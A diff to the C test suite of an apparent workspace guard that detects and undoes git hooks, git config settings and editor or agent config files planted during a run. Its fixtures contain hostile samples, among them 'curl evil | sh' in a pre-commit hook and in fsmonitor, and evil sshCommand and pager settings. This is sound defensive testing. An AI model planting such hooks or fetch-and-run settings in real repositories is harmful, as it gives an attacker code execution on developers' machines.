@@ -17,6 +17,8 @@
 #include <sys/wait.h>
 #include <time.h>
 
+#include <seccomp.h>
+
 #include "lib/fs.h"
 #include "lib/path.h"
 #include "lib/fd.h"
@@ -150,6 +152,8 @@ static void test_discover(void)
 			       "[core.sub]\n\thooksPath = nor-that\n");
 	/* a worktree whose gitdir lies inside the workspace, relative */
 	put(ws, "wt/.git", "gitdir: ../.gitdirs/wt\n");
+	put(ws, ".gitdirs/wt/HEAD", "ref: refs/heads/wt\n");
+	put(ws, ".gitdirs/wt/commondir", "../../.git\n");
 	_cleanup_free_ char *abs_hooks = xasprintf("[CORE]\nHooksPath = \"%s/abs hooks\"\n", ws);
 	put(ws, ".gitdirs/wt/config", abs_hooks);
 	/* one whose gitdir lies outside */
@@ -174,17 +178,28 @@ static void test_discover(void)
 	int r = handoffs_list(&(struct handoff_scan){ .workspace = o.workspace, .user_home = o.user_home, .extra = o.extra }, &paths);
 	is_int(r, 0, "handoffs_list succeeds");
 
-	static const char *const want[] = {
-		".git/hooks", ".git/config", ".githooks", ".husky",
-		"wt/.git", ".gitdirs/wt/hooks", ".gitdirs/wt/config", "abs hooks", "wt/.husky",
-		"out/.git", "out/.husky",
-		"a/b/c/d/e/.git/hooks", "a/b/c/d/e/.git/config", "a/b/c/hooks-rel", "a/b/c/d/e/.husky",
-		"sym/.git", "sym/.husky", ".vscode",
-		"stockade.ini", ".stockade.ini", ".claude", ".idea", ".cursor", ".envrc",
-		"tools/run.sh",
+	static const char *const named[] = {
+		".githooks", ".husky", "wt/.git", "abs hooks", "wt/.husky",
+		"out/.git", "out/.husky", "a/b/c/hooks-rel", "a/b/c/d/e/.husky",
+		"sym/.git", "sym/.husky", "tools/run.sh",
 	};
+	/* and every row of the table: at the top, and in each git directory */
+	static const char *const gitdirs[] = { ".git", ".gitdirs/wt", "a/b/c/d/e/.git" };
+	_cleanup_strv_ char **want = strv_new();
+	for (size_t i = 0; i < ARRAY_SIZE(named); i++)
+		strv_add(&want, named[i]);
+	for (size_t i = 0; i < handoff_table_len; i++) {
+		if (handoff_table[i].place == HANDOFF_AT_TOP) {
+			strv_add(&want, handoff_table[i].name);
+			continue;
+		}
+		for (size_t k = 0; k < ARRAY_SIZE(gitdirs); k++) {
+			_cleanup_free_ char *p = path_join(gitdirs[k], handoff_table[i].name);
+			strv_add(&want, p);
+		}
+	}
 	bool all = true;
-	for (size_t i = 0; i < ARRAY_SIZE(want); i++)
+	for (size_t i = 0; want[i]; i++)
 		if (!ok(strv_contains(paths, want[i]), "discovered '%s'", want[i]))
 			all = false;
 	static const char *const unwanted[] = {
@@ -199,8 +214,8 @@ static void test_discover(void)
 		if (paths[i][0] == '/' || strstr(paths[i], ".."))
 			outside_listed = true;
 	ok(!outside_listed, "every path is relative and inside the workspace");
-	is_int(strv_length(paths), ARRAY_SIZE(want), "nothing else discovered");
-	if (!all || strv_length(paths) != ARRAY_SIZE(want))
+	is_int(strv_length(paths), strv_length(want), "nothing else discovered");
+	if (!all || strv_length(paths) != strv_length(want))
 		diag_strv("discovered", paths);
 
 	/* The root's .git/hooks and .git/config before `git init`. */
@@ -345,9 +360,10 @@ static void test_undo(void)
 	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\ncurl evil | sh\n");
 	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the new hook is gone from .git/hooks");
 
-	check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
+	/* the run's config keeps what is inert of it, here nothing */
+	check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
 	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
-	is_str(config, CONFIG, ".git/config restored byte for byte");
+	is_str(config, "[core]\n", ".git/config keeps its inert settings, not fsmonitor");
 
 	check_change(&rep, ".envrc", GUARD_REMOVED, NULL, NULL);
 	_cleanup_free_ char *env = slurp(f.ws, ".envrc");
@@ -371,12 +387,12 @@ static void test_undo(void)
 	check_change(&rep, ".claude", GUARD_CREATED, "settings.json", "{\"hooks\": \"evil\"}\n");
 	ok(!exists(f.ws, ".claude"), "a new .claude is gone");
 
-	check_change(&rep, "sub/.git/hooks", GUARD_CREATED, "pre-commit", "#!/bin/sh\nevil\n");
-	ok(!exists(f.ws, "sub/.git/hooks"), "a new nested repository's hooks are gone");
-	ok(exists(f.ws, "sub/.git/HEAD"), "the rest of the new repository stays");
+	check_change(&rep, "sub/.git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	ok(!exists(f.ws, "sub/.git/hooks/pre-commit"), "a new nested repository's hook is gone");
+	ok(exists(f.ws, "sub/.git/hooks") && exists(f.ws, "sub/.git/HEAD"), "the rest of the new repository stays");
 
-	check_change(&rep, ".git/hooks/pre-commit.sample", GUARD_CHANGED, NULL, NULL);
-	is_int(mode_of(f.ws, ".git/hooks/pre-commit.sample") & 07777, 0644, "chmod +x undone");
+	/* git never runs a sample, whatever its mode */
+	ok(!find_change(&rep, ".git/hooks/pre-commit.sample"), "a sample made executable is not a change");
 
 	check_change(&rep, ".idea", GUARD_CHANGED, NULL, "not a directory\n");
 	_cleanup_free_ char *ws_xml = slurp(f.ws, ".idea/workspace.xml");
@@ -387,8 +403,8 @@ static void test_undo(void)
 	ok(exists(f.ws, ".git/objects/ab/new"), "a new git object stays");
 	_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/post-checkout");
 	is_str(hook, "#!/bin/sh\necho mine\n", "an untouched hook is untouched");
-	is_int(rep.n_changes, 8, "exactly the eight changes are reported");
-	if (rep.n_changes != 8)
+	is_int(rep.n_changes, 7, "exactly the seven changes are reported");
+	if (rep.n_changes != 7)
 		diag_report(&rep);
 	guard_report_free(&rep);
 	guard_free(g);
@@ -642,7 +658,7 @@ static void test_crash(void)
 	guard_report_free(&rep);
 	if (g) {
 		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
-		check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tsshCommand = evil\n");
+		check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tsshCommand = evil\n");
 		guard_report_free(&rep);
 		guard_free(g);
 	}
@@ -693,22 +709,51 @@ static void test_failed_end(void)
 {
 	struct fixture f;
 	fixture_init(&f, NULL);
+
+	/* 1. The quarantine cannot be made (a file is in its way): the hook
+	 *    is renamed beside itself, where git does not run it, and the
+	 *    cleanup says it failed. Nothing of the run's is in effect. */
 	_cleanup_free_ char *qtop = path_join(f.state, "quarantine");
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
+	guard_report_free(&rep);
+	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+	put(f.state, "quarantine", "in the way\n");
+	is_int(guard_end(g, &rep, NULL), 0, "an end whose quarantine cannot be made still ends");
+	guard_free(g);
+	ok(rep.cleanup_failed, "and says its cleanup failed");
+	const struct guard_change *c = find_change(&rep, ".git/hooks/pre-commit");
+	ok(c && c->beside && c->quarantined && strstr(c->quarantined, "/.git/hooks/pre-commit.stockade-"),
+	   "the hook is renamed beside itself (%s)", c && c->quarantined ? c->quarantined : "none");
+	ok(!exists(f.ws, ".git/hooks/pre-commit"), "no pre-commit hook is in effect");
+	_cleanup_free_ char *beside = c && c->quarantined ? slurp(c->quarantined, NULL) : NULL;
+	is_str(beside, "#!/bin/sh\nevil\n", "nothing lost: its content is beside it");
+	guard_report_free(&rep);
+	unlink(qtop);
+
+	/* 2. Nothing can be moved at all (renames refused, as by a filter):
+	 *    the end fails, the run stays registered while its process
+	 *    lives, and once it is gone the next run undoes the change. */
 	fflush(stdout);
 	pid_t pid = fork();
 	if (pid == 0) {
-		struct guard *g = NULL;
-		struct guard_report rep = { 0 };
+		g = NULL;
 		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
 			_exit(2);
 		guard_report_free(&rep);
-		put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
-		/* the quarantine cannot be made where a file is in the way */
-		put(f.state, "quarantine", "in the way\n");
+		put_mode(f.ws, ".git/hooks/pre-push", "#!/bin/sh\nevil\n", 0755);
+		scmp_filter_ctx ctx = seccomp_init(SCMP_ACT_ALLOW);
+		if (!ctx || seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(rename), 0) < 0 ||
+		    seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(renameat), 0) < 0 ||
+		    seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(renameat2), 0) < 0 ||
+		    seccomp_load(ctx) < 0)
+			_exit(6);
 		int r = guard_end(g, &rep, NULL);
+		bool live = exists(f.ws, ".git/hooks/pre-push");
 		guard_report_free(&rep);
 		guard_free(g);
-		if (r >= 0)
+		if (r >= 0 || !live)
 			_exit(3);
 		g = NULL;
 		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
@@ -721,15 +766,13 @@ static void test_failed_end(void)
 	int status = -1;
 	waitpid(pid, &status, 0);
 	is_int(WIFEXITED(status) ? WEXITSTATUS(status) : -1, 0,
-	       "an end that cannot quarantine fails, and a run begun after it in that process shares its baseline");
-	ok(exists(f.ws, ".git/hooks/pre-commit"), "the change it could not undo is still there");
-	unlink(qtop);
+	       "an end that cannot move anything fails, and a run begun after it in that process shares its baseline");
+	ok(exists(f.ws, ".git/hooks/pre-push"), "the change it could not undo is still there");
 
-	struct guard *g = NULL;
-	struct guard_report rep = { 0 };
+	g = NULL;
 	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin once that process is gone");
-	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
-	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the change is undone");
+	check_change(&rep, ".git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	ok(!exists(f.ws, ".git/hooks/pre-push"), "the change is undone");
 	is_int(rep.n_changes, 1, "and nothing else");
 	guard_report_free(&rep);
 	end_unchanged(g, "guard_end", "nothing left to undo");
@@ -826,9 +869,9 @@ static void test_concurrent(void)
 	put_mode(f.ws, ".git/hooks/from-a", "evil-a\n", 0755);
 	is_int(guard_end(a, &rep, NULL), 0, "first guard ends while the second runs");
 	check_change(&rep, ".git/hooks/from-a", GUARD_CREATED, NULL, "evil-a\n");
-	check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tpager = evil-b\n");
+	check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tpager = evil-b\n");
 	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
-	is_str(config, CONFIG, "the config the second run changed is restored by the first's end");
+	is_str(config, "[core]\n", "the setting the second run added is dropped by the first's end");
 	guard_report_free(&rep);
 	guard_free(a);
 
@@ -987,9 +1030,9 @@ static void test_cross_filesystem(void)
 		_cleanup_free_ char *t = c && c->quarantined ? link_target(c->quarantined, "rules/link") : NULL;
 		is_str(t, "/etc/passwd", "a symlink is copied as a symlink");
 		ok(!exists(f.ws, ".cursor"), "and the original tree removed");
-		check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tpager = evil\n");
+		check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tpager = evil\n");
 		_cleanup_free_ char *config = slurp(f.ws, ".git/config");
-		is_str(config, CONFIG, ".git/config restored");
+		is_str(config, "[core]\n", ".git/config vetted");
 		guard_report_free(&rep);
 		guard_free(g);
 	}
